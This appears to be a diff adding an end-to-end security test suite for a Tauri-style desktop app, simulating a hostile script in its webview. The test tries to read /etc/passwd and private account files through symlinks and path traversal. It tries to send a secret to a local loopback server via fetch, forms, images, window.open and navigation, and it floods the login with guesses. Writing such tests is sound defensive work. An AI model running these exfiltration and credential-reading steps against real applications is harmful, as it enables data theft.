@@ -1,0 +1,181 @@
+// A hostile script in the main window (an XSS, a compromised dependency), from page JS in the
+// real webview: it cannot widen the read scope, read outside it or the private files through
+// any read path, carry data off by navigating or opening windows, create menus or windows, or
+// starve the app with a flood of sign-ins.
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { WebDriver } from 'selenium-webdriver';
+import { inPage, invokeInPage, launchApp, type Settled } from './app';
+
+let driver: WebDriver;
+const data = inject('appDataDir');
+const readable = join(data, 'files');
+const accounts = join(data, 'private', 'accounts.json');
+
+/** A loopback server that records every request it gets. */
+let server: Server;
+const requests: string[] = [];
+let serverUrl = '';
+
+beforeAll(async () => {
+  server = createServer((request, response) => {
+    requests.push(request.url ?? '');
+    response.end('<h1>exfiltrated</h1>');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  serverUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  driver = await launchApp();
+  mkdirSync(join(readable, 'security'), { recursive: true });
+});
+
+afterAll(async () => {
+  await driver?.quit();
+  await new Promise((resolve) => server?.close(resolve));
+});
+
+const kindOf = (settled: Settled) =>
+  'error' in settled ? ((settled.error as { kind?: string }).kind ?? String(settled.error)) : 'accepted';
+
+describe('A hostile script in the main window', () => {
+  it('cannot read the private files or outside the scope through any app command', async () => {
+    const link = join(readable, 'security', 'accounts-link.json');
+    symlinkSync(accounts, link);
+    for (const path of [accounts, link, '/etc/passwd', `${readable}/../private/accounts.json`]) {
+      for (const command of ['read_file', 'read_file_bytes', 'file_info']) {
+        expect(kindOf(await invokeInPage(driver, command, { path })), `${command} ${path}`).toBe('outsideScope');
+      }
+      const streamed = await inPage<{ kind: string; chunks: number }>(
+        driver,
+        `let chunks = 0; // data messages only: a channel also gets an { end } message when dropped
+         const reader = '__CHANNEL__:' + transformCallback((m) => { if ('message' in m) chunks++; });
+         const kind = await invoke('load_image', { path: args[0], reader }).then(() => 'accepted', (e) => e.kind);
+         return { kind, chunks };`,
+        path,
+      );
+      expect(streamed, `load_image ${path}`).toEqual({ kind: 'outsideScope', chunks: 0 });
+    }
+  });
+
+  it('cannot read the private files through the fs plugin or the asset protocol', async () => {
+    const readTextFile = await invokeInPage(driver, 'plugin:fs|read_text_file', { path: accounts });
+    expect(String((readTextFile as { error: unknown }).error)).toMatch(/forbidden path/);
+    for (const command of ['plugin:fs|read_file', 'plugin:fs|read_dir', 'plugin:fs|open', 'plugin:fs|copy_file']) {
+      const refused = await invokeInPage(driver, command, { path: accounts });
+      expect(String((refused as { error: unknown }).error), command).toMatch(/not allowed/);
+    }
+    const fetched = await inPage<string[]>(
+      driver,
+      `const urls = ['asset://localhost/' + encodeURIComponent(args[0]), 'http://asset.localhost/' + encodeURIComponent(args[0])];
+       return Promise.all(urls.map((url) => fetch(url).then((r) => 'status ' + r.status, () => 'refused')));`,
+      accounts,
+    );
+    expect(fetched).toEqual(['refused', 'refused']);
+    // What readTextFile may read: the readable folder.
+    const shared = join(readable, 'security', 'shared.txt');
+    writeFileSync(shared, 'shared');
+    const allowed = await inPage<string>(
+      driver,
+      `const bytes = await invoke('plugin:fs|read_text_file', { path: args[0] });
+       return new TextDecoder().decode(new Uint8Array(bytes));`,
+      shared,
+    );
+    expect(allowed).toBe('shared');
+  });
+
+  it('cannot carry data off: navigation, forms, fetch, images and new windows all stay home', async () => {
+    const before = await driver.getCurrentUrl();
+    const handles = (await driver.getAllWindowHandles()).length;
+    const attempts = await inPage<Record<string, string>>(
+      driver,
+      `const url = args[0] + '/?d=secret';
+       const outcome = {};
+       outcome.fetch = await fetch(url).then(() => 'sent', () => 'refused');
+       outcome.open = String(window.open(url));
+       const a = document.createElement('a');
+       a.href = url; a.target = '_blank'; document.body.append(a); a.click(); a.remove();
+       const form = document.createElement('form');
+       form.action = url; form.method = 'post'; document.body.append(form);
+       try { form.submit(); outcome.form = 'submitted'; } catch (e) { outcome.form = String(e); }
+       form.remove();
+       new Image().src = url + '&img';
+       outcome.frozen = String(Object.isFrozen(Object.prototype));
+       try { eval('1 + 1'); outcome.eval = 'ran'; } catch (e) { outcome.eval = e.name; }
+       location.href = url;
+       await new Promise((r) => setTimeout(r, 300));
+       window.location.assign(url + '&assign');
+       return outcome;`,
+      serverUrl,
+    );
+    expect(attempts).toMatchObject({ fetch: 'refused', open: 'null', frozen: 'true', eval: 'EvalError' });
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    expect(await driver.getCurrentUrl()).toBe(before);
+    expect(await driver.getAllWindowHandles()).toHaveLength(handles);
+    expect(requests).toEqual([]);
+    // The page still works.
+    expect(await invokeInPage(driver, 'greet', { name: 'still here' })).toEqual({ ok: 'Hello, still here!' });
+  });
+
+  it('cannot create a menu, a tray icon, a window or a webview, or reach the window manager', async () => {
+    const attempts: [string, unknown][] = [
+      ['plugin:menu|new', { kind: 'Menu', options: {} }],
+      ['plugin:tray|new', { options: {} }],
+      ['plugin:webview|create_webview_window', { options: { label: 'evil', url: 'https://example.com' } }],
+      ['plugin:window|set_title', { label: 'main', value: 'pwned' }],
+      ['plugin:window|close', { label: 'main' }],
+      ['plugin:path|resolve_directory', { directory: 14 }],
+      ['plugin:event|emit_to', { target: { kind: 'Any' }, event: 'x', payload: null }],
+    ];
+    for (const [command, args] of attempts) {
+      const refused = await invokeInPage(driver, command, args);
+      expect(String((refused as { error: unknown }).error), command).toMatch(/not allowed/);
+    }
+    expect(await driver.getAllWindowHandles()).toHaveLength(1);
+  });
+
+  it('200 wrong sign-ins at once leave greet and an in-scope read answering within 0.5 s', async () => {
+    const note = join(readable, 'security', 'note.txt');
+    writeFileSync(note, 'still readable');
+    const result = await inPage<{ greetMs: number; readMs: number; read: string; kinds: Record<string, number> }>(
+      driver,
+      `const guesses = Array.from({ length: 200 }, (_, i) =>
+         invoke('login', { user: 'tauri', password: 'guess-' + i }).then(() => 'accepted', (e) => e.kind));
+       const t0 = performance.now();
+       await invoke('greet', { name: 'x' });
+       const t1 = performance.now();
+       const read = await invoke('read_file', { path: args[0] });
+       const t2 = performance.now();
+       const kinds = {};
+       for (const kind of await Promise.all(guesses)) kinds[kind] = (kinds[kind] ?? 0) + 1;
+       return { greetMs: t1 - t0, readMs: t2 - t1, read, kinds };`,
+      note,
+    );
+    expect(result.read).toBe('still readable');
+    expect(result.greetMs).toBeLessThan(500);
+    expect(result.readMs).toBeLessThan(500);
+    // A few guesses were checked; the rest were refused as busy without hashing.
+    expect(result.kinds.accepted).toBeUndefined();
+    expect(result.kinds.unauthorized).toBeLessThanOrEqual(4);
+    expect(result.kinds.busy).toBeGreaterThanOrEqual(196);
+  });
+
+  it('cannot widen the scope: naming a folder only opens the picker, one at a time', async () => {
+    const outcome = await inPage<Record<string, unknown>>(
+      driver,
+      `// The native folder dialog opens and waits for the user; nobody answers it here.
+       window.__pendingPick = invoke('add_scope_folder', { path: '/' });
+       await new Promise((r) => setTimeout(r, 500));
+       const second = await invoke('add_scope_folder', { path: '/etc' }).then(() => 'accepted', (e) => e.kind);
+       const read = await invoke('read_file', { path: '/etc/passwd' }).then(() => 'accepted', (e) => e.kind);
+       const folders = await invoke('scope_folders');
+       return { second, read, folders };`,
+    );
+    expect(outcome).toEqual({
+      second: 'busy',
+      read: 'outsideScope',
+      folders: [{ path: readable, removable: false }],
+    });
+  });
+});
